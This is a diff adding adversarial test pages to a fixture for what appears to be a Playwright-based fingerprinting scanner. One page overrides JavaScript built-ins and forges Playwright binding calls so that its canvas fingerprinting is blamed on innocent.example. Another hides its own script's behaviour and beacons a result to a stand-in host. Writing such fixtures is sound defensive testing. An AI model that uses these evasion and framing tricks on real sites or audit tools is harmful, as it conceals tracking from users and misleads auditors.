@@ -24,6 +24,10 @@ SHOP = "shop.example"
 CLEAN = "clean.example"
 BUSY = "busy.example"
 """Its page never answers once it is there, nor does its worker."""
+FRAMER = "framer.example"
+"""Its page wants the report to say that innocent.example did what it did."""
+HIDING = "hiding.example"
+"""Another's script in its page hides what it does."""
 NEAR = "near.example"
 """Its page tries to reach what listens on this machine (``near_port``) in every way that it has."""
 HOSTS = (
@@ -136,6 +140,45 @@ _BUSY = """<!doctype html><script>
 new Worker(URL.createObjectURL(new Blob(["while (true);"])));
 addEventListener("load", () => setTimeout(() => { while (true); }, 1500));
 </script>"""
+_FRAMER = """<!doctype html><script>
+const innocent = "https://innocent.example/tag.js";
+window.mine = {exec: RegExp.prototype.exec, apply: Function.prototype.apply, has: Set.prototype.has};
+Error.prepareStackTrace = () => `Error\n    at ${innocent}:1:1`;
+RegExp.prototype.exec = () => [innocent];
+String.prototype.split = () => [innocent];
+Array.prototype.includes = () => true;
+Array.prototype[Symbol.iterator] = function* () { yield innocent; };
+Array.prototype.toJSON = () => [innocent];
+Object.prototype.toJSON = () => innocent;
+Object.prototype.get = () => innocent;
+JSON.stringify = () => JSON.parse('""');
+Object.defineProperty(Error.prototype, "stack", {get: () => `at ${innocent}:1:1`, configurable: true});
+window.Error = function () { return {stack: `at ${innocent}:1:1`}; };
+window.Error.stackTraceLimit = 0;
+const paint = () => {
+  const c = document.createElement("canvas"); c.getContext("2d").fillText("x", 1, 9); c.toDataURL();
+};
+paint();
+(0, eval)(`window.painted = ${paint};painted();\n//# sourceURL=${innocent}`);
+const control = globalThis.__playwright__binding__controller__, told = globalThis.__playwright__binding__;
+for (const name of control?._bindings?.keys() ?? []) {
+  const binding = (...all) => { try { control.callBinding(name, ...all); } catch {} };
+  binding("canvas", innocent, ""); binding("", "canvas", innocent, "");
+  const all = (...args) => told('{"name":"' + name + '","seq":1,"serializedArgs":["' + args.join('","') + '"]}');
+  all("canvas", innocent, ""); all("0".repeat(32), "canvas", innocent, "");
+}
+document.cookie = "framed=1; path=/";
+</script><img src="https://innocent.example/pixel">"""
+_HIDER = """(() => {
+  let natively = null;
+  Function.prototype.apply = function (...all) { natively ??= this; return Reflect.apply(this, all[0], all[1] ?? []); };
+  Set.prototype.has = () => true; Set.prototype.add = () => { throw new Error("no"); };
+  Map.prototype.get = () => { throw new Error("no"); };
+  Object.defineProperty(window, "String", {value: () => { throw new Error("no"); }});
+  Object.getOwnPropertyDescriptor(Error, "stackTraceLimit")?.configurable && (Error.stackTraceLimit = 0);
+  const c = document.createElement("canvas"); c.getContext("2d").fillText("x", 1, 9); c.toDataURL();
+  fetch("https://hider.example/natively?" + (natively === null ? "no" : "yes"), {mode: "no-cors"});
+})();"""
 _NEAR = """<!doctype html><form id=f method=post enctype=text/plain target=_blank><input name=command></form>
 <a id=a target=_blank>on</a><iframe src="http://127.0.0.1:PORT/frame"></iframe>
 <img src="http://localhost:PORT/img"><link rel=stylesheet href="http://[::1]:PORT/style">
@@ -187,7 +230,17 @@ class World:
 @contextmanager
 def world() -> Iterator[World]:
     """The world, for as long as it is needed."""
-    names = [SHOP, f"*.{SHOP}", CLEAN, BUSY, NEAR, *(f"{name}.example" for name in HOSTS)]
+    names = [
+        SHOP,
+        f"*.{SHOP}",
+        CLEAN,
+        BUSY,
+        NEAR,
+        FRAMER,
+        "innocent.example",
+        "hider.example",
+        *(f"{name}.example" for name in HOSTS),
+    ]
     made = World(0, "")
 
     class Answers(BaseHTTPRequestHandler):
@@ -266,6 +319,12 @@ def _content(host: str, path: str) -> tuple[str, bytes]:
         return "text/html", _shop().encode()
     if host == CLEAN and not path.endswith(".css"):
         return "text/html", _CLEAN.encode()
+    if host == FRAMER:
+        return "text/html", _FRAMER.encode()
+    if host == HIDING:
+        return "text/html", b"<!doctype html><script src=https://hider.example/tag.js></script>"
+    if host == "hider.example" and path == "/tag.js":
+        return "text/javascript", _HIDER.encode()
     if host == NEAR:
         return "text/html", b""
     if host == BUSY:
